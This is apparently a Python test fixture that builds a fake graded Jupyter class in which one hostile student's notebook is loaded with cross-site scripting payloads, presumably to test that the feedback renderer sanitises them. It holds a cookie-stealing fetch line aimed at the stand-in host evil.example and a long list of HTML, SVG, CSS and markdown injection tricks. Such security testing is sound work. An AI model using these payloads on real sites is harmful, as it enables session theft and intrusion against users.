"""A graded class made by hand, for tests of feedback: no kernel runs."""

from __future__ import annotations

from pathlib import Path

import nbformat
from nbformat import v4

from grader.build import QUIZ_SCORE, grade_id
from grader.classroom import Classroom
from grader.units import Unit
from halfbits.checking.report import Report
from halfbits.pictures.numberline import number_line
from halfbits.quizzes.questions import mark_quiz
from halfbits.quizzes.quiz_report import score_view

STEAL = "fetch('http://evil.example/?' + document.cookie); window.hacked = true"

HOSTILE_HTML = (
    f"<script>{STEAL}</script>",
    f'<img src=x onerror="{STEAL}">',
    '<img src="http://evil.example/pixel.png">',
    '<img src="//evil.example/pixel.png"><img srcset="http://evil.example/a.png 1x">',
    f'<svg onload="{STEAL}"><script>{STEAL}</script><image href="http://evil.example/i.png"/></svg>',
    f'<svg><animate onbegin="{STEAL}" attributeName=x dur=1s></svg>',
    '<svg><use href="http://evil.example/s.svg#a"/></svg>',
    '<svg><use xlink:href="data:image/svg+xml,x#a"/></svg>',
    f"<svg><foreignObject><iframe srcdoc='<script>{STEAL}</script>'></foreignObject></svg>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{STEAL}"></style></table></math>',
    f'<iframe src="javascript:{STEAL}"></iframe><embed src="http://evil.example/e.swf">',
    f'<object data="data:text/html,<script>{STEAL}</script>"></object>',
    '<form action="http://evil.example/"><input name=p autofocus onfocus="hacked=1">'
    "<button>Submit</button></form>",
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<link rel="stylesheet" href="http://evil.example/x.css">'
    '<base href="http://evil.example/"><style>@import "http://evil.example/y.css";</style>',
    "<style>body{background:url(http://evil.example/b.png)} *{display:none}</style>",
    '<p style="background:url(http://evil.example/c.png);color:red">red</p>',
    '<p style="background-image:url(http://evil.example/c.png);position:fixed;top:0">over</p>',
    '<p style="list-style:u\\72l(http://evil.example/d.png)">escaped</p>',
    "<p style=\"background:image-set('http://evil.example/e.png' 1x)\">set</p>",
    f'<a href="javascript:{STEAL}">click</a><a href="data:text/html,x">data</a>',
    f'<details open ontoggle="{STEAL}"><summary>s</summary>d</details>',
    f'<video src="http://evil.example/v.mp4" onerror="{STEAL}"></video>'
    f'<audio src=x onerror="{STEAL}"></audio>',
    f"<noscript><p title=\"</noscript><img src=x onerror='{STEAL}'>\"></noscript>",
    f"<template><script>{STEAL}</script></template><xmp><script>{STEAL}</script></xmp>",
    f"</pre></div></section></main><script>{STEAL}</script><plaintext>",
    f"<!--><script>{STEAL}</script>--><![CDATA[<script>{STEAL}</script>]]>",
)


def hostile_outputs() -> list[nbformat.NotebookNode]:
    """Every way in which a cell may show something that a browser would run or load."""
    data = [{"text/html": page} for page in HOSTILE_HTML]
    data += [{"image/svg+xml": page, "text/plain": "svg"} for page in HOSTILE_HTML if "svg" in page]
    data += [{"text/markdown": page} for page in HOSTILE_HTML[:3]]
    data += [
        {"text/markdown": f"![x](http://evil.example/m.png) [y](javascript:{STEAL})"},
        {"text/latex": f"$\\href{{javascript:{STEAL}}}{{x}}$ <script>{STEAL}</script>"},
        {"application/javascript": STEAL, "text/plain": "js"},
        {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/plain": "W(x)"},
        {"image/png": f'x" onerror="{STEAL}', "text/plain": "not a picture"},
        {"image/jpeg": f'"><script>{STEAL}</script>', "text/plain": "not a picture"},
        {"text/plain": f"<script>{STEAL}</script>"},
    ]
    outputs = [v4.new_output("display_data", one) for one in data]
    escape = f"\x1b[31m<script>{STEAL}</script>\x1b[0m"
    outputs.append(v4.new_output("stream", name="stderr", text=escape))
    outputs.append(v4.new_output("error", ename="<b>E", evalue="<script>", traceback=[escape]))
    return outputs


def graded_class(root: Path, unit: Unit, student: str = "mallory") -> Classroom:
    """A class of one student, who got one exercise wrong and half of the quiz, and is hostile."""
    classroom = Classroom(root)
    release = classroom.prepare(unit)
    notebook = nbformat.read(release / f"{unit.name}.ipynb", as_version=4)
    exercise = unit.exercises["decode"]
    wrong = exercise.wrong_answers[0]
    for cell in notebook.cells:
        if grade_id(cell) == "decode-answer":
            cell.source = f"# </pre><script>{STEAL}</script>\ndef decode(): ..."
        if grade_id(cell) == "decode-hidden":
            verdict = exercise.try_hidden(wrong.function)
            report = Report("decode", verdict).without_cases()
            cell.outputs = [v4.new_output("display_data", report._repr_mimebundle_())]
        if grade_id(cell) == QUIZ_SCORE:
            view = score_view(_marked(unit), "")
            cell.outputs = [v4.new_output("display_data", {"text/html": view._repr_html_()})]
    picture = number_line("fp16")
    shown = v4.new_output("display_data", {"text/html": picture._repr_html_()})
    notebook.cells += [
        v4.new_code_cell("hb.number_line()", id="picture", outputs=[shown]),
        v4.new_code_cell(f"'<script>{STEAL}</script>'", id="own-1", outputs=hostile_outputs()),
        *(v4.new_markdown_cell(page, id=f"own-md-{n}") for n, page in enumerate(HOSTILE_HTML)),
        v4.new_raw_cell(HOSTILE_HTML[0], id="own-raw"),
    ]
    about = "**About this submission**\n\n- It used more than 2 GB of memory at `decode`"
    notebook.cells.insert(0, v4.new_markdown_cell(about, id="about-submission"))
    target = classroom.path("autograded", student, unit) / f"{unit.name}.ipynb"
    target.parent.mkdir(parents=True)
    nbformat.write(notebook, target)
    with classroom.gradebook() as gradebook:
        gradebook.add_student(student)
        gradebook.add_submission(unit.name, student)
        [graded] = gradebook.find_submission(unit.name, student).notebooks
        for grade in graded.grades:
            lost = grade.name.startswith("decode") or grade.name == QUIZ_SCORE
            grade.needs_manual_grade = grade.name == "explain-bf16"
            grade.auto_score = 0.0 if lost else grade.max_score_gradecell
            if grade.needs_manual_grade:
                grade.auto_score = None
        gradebook.db.commit()
    return classroom


def _marked(unit: Unit) -> list:
    first = unit.quiz.questions[0]
    chosen = {first["id"]: first["options"][0]["id"]}
    return mark_quiz(unit.quiz.with_key(), chosen)
